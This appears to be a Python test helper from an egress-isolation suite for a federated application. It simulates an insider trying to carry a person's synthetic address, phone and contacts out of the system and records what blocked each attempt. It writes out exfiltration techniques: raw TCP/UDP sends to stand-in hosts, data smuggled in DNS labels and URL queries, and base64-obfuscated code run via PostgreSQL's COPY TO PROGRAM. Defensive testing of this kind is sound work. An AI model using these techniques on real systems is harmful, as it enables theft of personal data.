"""What somebody who sits in the core would try: a person's address, phone number, friends and contacts, carried out.

Each way says afterwards what became of it: refused by the border, with the entry that tells of it; or stopped before
it reached anything, as the system said.
"""

import asyncio
import base64
import json
import os
import secrets
import shlex
import socket
import sys
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import quote, urlencode

import asyncpg
from tests.egress.realms import GUEST_PORT, Realm
from tests.egress.spaces import GUEST, Space

from reelm.border.client import BorderClient
from reelm.border.errors import BorderForbiddenError, BorderUnreachableError
from reelm.border.repository_releasing import ASKED
from reelm.settings import BorderCaller

NAMES = ("address", "phone", "friends", "contacts")
ELSEWHERE = f"https://{GUEST}:9444/collect"
# Nobody's: documentation addresses (RFC 5737), to which the border's default route leads over the link.
NOWHERE = "203.0.113.7"


@dataclass(frozen=True)
class Secrets:
    """What is known about one person, each with words that occur nowhere else."""

    address: str
    phone: str
    friends: str
    contacts: str

    @classmethod
    def made(cls) -> "Secrets":
        return cls(
            f"{secrets.token_hex(6)} Lane 7",
            f"+1202555{secrets.randbelow(10**4):04}{secrets.randbelow(10**2):02}",
            f"bea_{secrets.token_hex(5)}",
            f"uncle-{secrets.token_hex(6)}",
        )

    @property
    def values(self) -> dict[str, str]:
        return {name: getattr(self, name) for name in NAMES}

    def marks(self) -> dict[str, list[bytes]]:
        """Each in the forms in which it could travel; not compressed or encrypted, which nobody could find."""
        return {name: _forms(value) for name, value in self.values.items()}

    @property
    def query(self) -> str:
        return urlencode(self.values)


def _forms(value: str) -> list[bytes]:
    plain = value.encode()
    core = "".join(letter for letter in value if letter.isalnum()).encode()
    return sorted(
        {
            plain,
            quote(value, safe="").encode(),
            urlencode({"": value})[1:].encode(),
            core,
            plain.hex().encode(),
        }
    )


@dataclass(frozen=True)
class Tried:
    """One way out that was tried. `stopped`: what the system or the border said; empty if nothing stopped it."""

    way: str
    stopped: str
    # What the border tells of it: channel and reason.
    told: tuple[str, str] | None = None


def without_a_route(core: Space, known: Secrets) -> list[Tried]:
    """From a process of the core: TCP, UDP, a name to be resolved, IPv6."""
    return [
        _attempt(core, "TCP to a foreign host", lambda: _tcp(GUEST, GUEST_PORT, known)),
        _attempt(core, "TCP to a host of the Internet", lambda: _tcp(NOWHERE, 443, known)),
        _attempt(core, "UDP to a foreign host", lambda: _udp(GUEST, 9999, known.query.encode())),
        _attempt(core, "DNS, asked of a server", lambda: _udp(GUEST, 53, _dns_question(known))),
        _attempt(core, "DNS, asked of the machine", lambda: _resolve(known)),
        _attempt(core, "IPv6", lambda: _udp("2001:db8::7", 53, known.query.encode(), socket.AF_INET6)),
    ]


def _attempt(core: Space, way: str, leak: Callable[[], None]) -> Tried:
    with core.inside():
        try:
            leak()
        except OSError as error:
            return Tried(way, f"{type(error).__name__}: {error.strerror or error}")
    return Tried(way, "")


def _tcp(host: str, port: int, known: Secrets) -> None:
    with socket.create_connection((host, port), timeout=5) as leak:
        leak.sendall(f"GET /?{known.query} HTTP/1.1\r\n\r\n".encode())


def _udp(host: str, port: int, data: bytes, family: socket.AddressFamily = socket.AF_INET) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as leak:
        leak.sendto(data, (host, port))


def _dns_question(known: Secrets) -> bytes:
    labels = [*("".join(filter(str.isalnum, each)) for each in known.values.values()), "example"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1"


def _resolve(known: Secrets) -> None:
    name = "".join(filter(str.isalnum, known.friends))
    socket.getaddrinfo(f"{name}.leak.example", 443)


async def from_the_database(realm: Realm, known: Secrets) -> Tried:
    """PostgreSQL's own administrator has a program run on the server, which opens a connection."""
    program = f"""
import socket, sys
try:
    socket.create_connection(("{GUEST}", {GUEST_PORT}), 5).sendall({known.query.encode()!r})
except OSError as error:
    sys.exit(error.errno)
"""
    code = f"import base64; exec(base64.b64decode({base64.b64encode(program.encode()).decode()!r}))"
    way = "TCP from a program of PostgreSQL"
    connection = await asyncpg.connect(**realm.settings.database.connection("reelm_admin"))
    try:
        command = shlex.join([sys.executable, "-c", code]).replace("'", "''")
        await connection.execute(f"COPY (SELECT 1) TO PROGRAM '{command}'")
    except asyncpg.ExternalRoutineError as error:
        # What the program ended with is the system's number for what happened to it.
        number = int(str(error.detail or error).rpartition(" ")[2])
        return Tried(way, f"OSError: {os.strerror(number)}" if number > 1 else "")
    finally:
        await connection.close()
    return Tried(way, "")


async def over_the_border(realm: Realm, known: Secrets, border: str) -> list[Tried]:
    """What a process of the core would ask the border to do for it. `border`: that of a realm which is known."""
    worker, sequencer = _client(realm, "worker"), _client(realm, "sequencer")
    file = f"media/{uuid.uuid4()}/{secrets.token_hex(32)}.mp4"
    foreign, body = f"https://{GUEST}:{GUEST_PORT}", json.dumps(known.values).encode()
    tries: list[tuple[str, Callable[[], Awaitable[object]], tuple[str, str]]] = [
        ("a webhook", lambda: worker.deliver(f"{foreign}/hook", "webhook", body), ("delivery", "not_listed")),
        (
            "a webhook's address",
            lambda: worker.deliver(f"https://{NOWHERE}/hook?{known.query}", "webhook", b""),
            ("delivery", "not_listed"),
        ),
        (
            "an image of a stranger's",
            lambda: worker.fetch(f"https://{NOWHERE}/pixel.png?{known.query}", "image", 1000),
            ("fetch", "unknown_realm"),
        ),
        (
            "an image of a known realm's, with more in its address",
            lambda: worker.fetch(f"{border}/{file}?{known.query}", "image", 1000),
            ("fetch", "not_a_file"),
        ),
        (
            "a file that leads elsewhere",
            lambda: worker.fetch(f"{foreign}/{file}", "image", 1000),
            ("fetch", "redirects"),
        ),
        (
            "a witness that the charter doesn't name",
            lambda: sequencer.control("POST", f"{foreign}/add?{known.query}", body),
            ("control", "not_in_charter"),
        ),
    ]
    return [await _asked(way, ask, told) for way, ask, told in tries]


async def _asked(way: str, ask: Callable[[], Awaitable[object]], told: tuple[str, str]) -> Tried:
    try:
        await ask()
    except BorderForbiddenError as error:
        return Tried(way, f"the border refused it: {error.fields.get('reason', '')}", told)
    except BorderUnreachableError:
        # Nobody answered as agreed: it was asked all the same.
        pass
    return Tried(way, "", told)


def _client(realm: Realm, caller: BorderCaller) -> BorderClient:
    return BorderClient.of(realm.settings, caller)


async def as_a_crossing(realm: Realm, known: Secrets, peer: str, actor: str) -> Tried:
    """The way that is meant for it: an act for another realm, with more in it than that realm may know."""
    person = {"type": "Person", "id": actor, "preferredUsername": "ana", "name": "Ana", **known.values}
    connection = await asyncpg.connect(**realm.settings.database.connection("reelm_admin"))
    try:
        crossing = uuid.uuid4()
        await connection.execute(
            "INSERT INTO crossings (id, peer, act, object_type, purpose, document) "
            "VALUES ($1, $2, 'Update', 'Person', 'profile', $3)",
            crossing,
            peer,
            json.dumps(person),
        )
        await connection.execute("SELECT pg_notify($1, '')", ASKED)
        for _ in range(200):
            row = await connection.fetchrow(
                "SELECT state, reason, removed FROM crossings WHERE id = $1", crossing
            )
            if row["state"] not in {"asked", "recorded", "released"}:
                break
            await asyncio.sleep(0.05)
    finally:
        await connection.close()
    stopped = f"the border refused it: {row['reason']}" if row["state"] == "refused" else ""
    return Tried("fields of a crossing", stopped, ("crossing", str(row["reason"])))
